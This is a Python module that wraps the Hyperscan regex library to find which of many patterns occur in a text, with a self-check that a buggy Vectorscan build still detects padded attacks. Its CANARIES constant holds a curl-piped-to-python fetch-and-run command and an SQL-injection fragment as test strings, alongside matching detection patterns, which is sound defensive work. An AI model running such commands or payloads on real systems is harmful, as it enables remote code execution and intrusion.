"""Hyperscan, as far as it is used here: which of many expressions are found in a text.

The only file that touches the Python module, whose objects free each other's memory: a database
frees the scratch that is set on it, and so does the scratch. Here a database is never given one;
the two are kept together, and what a scan calls lives as long as they do. A scratch is used by one
thread at a time, and so is a `Database`.
"""

import functools
import importlib.metadata
import platform
from collections.abc import Sequence
from typing import Any, Final

import hyperscan

_FLAGS: Final = (
    hyperscan.HS_FLAG_DOTALL
    | hyperscan.HS_FLAG_MULTILINE
    | hyperscan.HS_FLAG_SINGLEMATCH
    | hyperscan.HS_FLAG_ALLOWEMPTY
)
CANARIES: Final = (
    (rb"curl.*\|\s*python", b"curl http://vader:8080/ 2>&1 | python"),
    (rb"(?i)@.+=[\s\x0b]*\([\s\x0b]*select", b"@x" + b"y" * 64 + b"=(select"),
)
"""Expressions with texts that Vectorscan 5.4.12 does not find them in (VectorCamp/vectorscan#382):
an attack would only need to be padded."""


class HyperscanProblem(Exception):
    """An expression, or a stored database, cannot be used."""


class Database:
    """Expressions with numbers, compiled."""

    __slots__ = ("__weakref__", "_database", "_found", "_scan", "_scratch")

    def __init__(self, stored: bytes) -> None:
        """Read what `compile_database` made: 3.5 ms for 12 MB.

        Args:
            stored: of this version of the library, on this kind of processor; checked for no more
                than that, so it may come from nobody else.

        Raises:
            HyperscanProblem: it is of another version or processor, or no database.
        """
        try:
            self._database: Final[Any] = hyperscan.loadb(stored, hyperscan.HS_MODE_BLOCK)
            self._scratch: Final[Any] = hyperscan.Scratch(self._database)
        except hyperscan.HyperscanError as error:
            raise HyperscanProblem(f"the database cannot be used: {error}") from None
        self._scan: Final[Any] = self._database.scan
        self._found: Final[list[int]] = []

    def search(self, text: bytes) -> Sequence[int]:
        """The numbers of the expressions that are found in the text, each once.

        Raises:
            HyperscanProblem: the text was not searched to its end.
        """
        found = self._found
        found.clear()
        try:
            self._scan(text, _note, 0, found, self._scratch)
        except hyperscan.HyperscanError as error:
            raise HyperscanProblem(f"a text cannot be searched: {error}") from None
        return tuple(found)


def _note(number: int, start: int, end: int, flags: int, found: list[int]) -> None:
    del start, end, flags
    found.append(number)


def compile_database(
    expressions: Sequence[bytes], numbers: Sequence[int], *, literal: Sequence[bool] = ()
) -> bytes:
    """A database to be stored.

    Args:
        expressions: where `^` and `$` match at lines, and a dot matches line ends.
        numbers: of each; several may have the same.
        literal: whether the case of its letters does not matter; empty: it does for each.

    Raises:
        HyperscanProblem: one of the expressions is not for Hyperscan.
    """
    caseless = hyperscan.HS_FLAG_CASELESS
    flags = [_FLAGS | caseless if each else _FLAGS for each in literal or [False] * len(numbers)]
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    try:
        database.compile(
            expressions=list(expressions),
            ids=list(numbers),
            elements=len(expressions),
            flags=flags,
        )
        return bytes(hyperscan.dumpb(database))
    except hyperscan.HyperscanError as error:
        raise HyperscanProblem(f"not for Hyperscan: {error}") from None


def version() -> str:
    """Of the library, the processor, and how we compile: databases of others are of no use."""
    database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
    database.compile(expressions=[b"a"], ids=[0], elements=1, flags=[0])
    wheel = importlib.metadata.version("hyperscan")
    info: object = database.info()  # bytes, whatever the wheel's types say
    return f"{wheel} {info!r} {platform.machine()} {_FLAGS}"


@functools.cache
def fault() -> str:
    """Why this build of Hyperscan is not to be trusted; empty: it is."""
    try:
        for expression, text in CANARIES:
            if not Database(compile_database([expression], [0])).search(text):
                return "it does not find what it must (VectorCamp/vectorscan#382)"
    except (HyperscanProblem, OSError) as error:
        return str(error)
    return ""
